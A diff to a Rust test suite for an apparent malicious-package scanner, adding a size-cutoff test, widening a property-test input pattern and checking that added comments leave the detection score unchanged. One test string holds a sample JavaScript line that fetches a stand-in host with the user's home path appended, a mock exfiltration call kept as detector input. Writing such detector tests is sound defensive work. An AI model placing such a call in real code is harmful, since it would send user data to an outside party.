@@ -73,7 +73,8 @@ fn the_clearest_window_is_the_payload_and_its_reasons_are_named() {
 
 #[test]
 fn comments_do_not_change_the_score() {
-    let with = SPY.replace("    pass\n", "    pass  # opt-in telemetry, see PRIVACY.md\n");
+    let with =
+        SPY.replace("    pass\n", "    # opt-in telemetry (see PRIVACY.md)\n    pass  # never fails\n");
     assert_eq!(score(&[("a.py", SPY)]).to_bits(), score(&[("a.py", &with)]).to_bits());
     let script =
         "/* a licence\n of two lines */\nfetch('https://host.example/' + process.env.HOME)\n// the end\n";
@@ -101,9 +102,21 @@ fn a_damaged_model_is_refused() {
     assert!(matches!(Payloads::load(&bytes), Err(PayloadError::Model(_))));
 }
 
+#[test]
+fn a_package_beyond_the_bounds_is_cut() {
+    let long: String = (0..500_000).map(|number| format!("a{number}\n")).collect();
+    let files: Vec<String> = (0..4).map(|number| format!("{number}.js")).collect();
+    let files: Vec<SourceFile<'_>> =
+        files.iter().map(|path| SourceFile { path, content: long.as_bytes() }).collect();
+    assert!(read(&files, &code_signals::Report::default()).is_cut);
+    assert!(!read(&files[..1], &code_signals::Report::default()).is_cut);
+}
+
 proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
     #[test]
-    fn any_text_has_a_score_and_windows_within_its_lines(text in "\\PC{0,2000}", python in any::<bool>()) {
+    fn any_text_has_a_score_and_windows_within_its_lines(text in "(\\PC|[\n\r#/*`])*{0,2000}", python in any::<bool>()) {
         let path = if python { "a.py" } else { "a.js" };
         let files = [SourceFile { path, content: text.as_bytes() }];
         let reading = read(&files, &analyze(&files, Subject::Package));
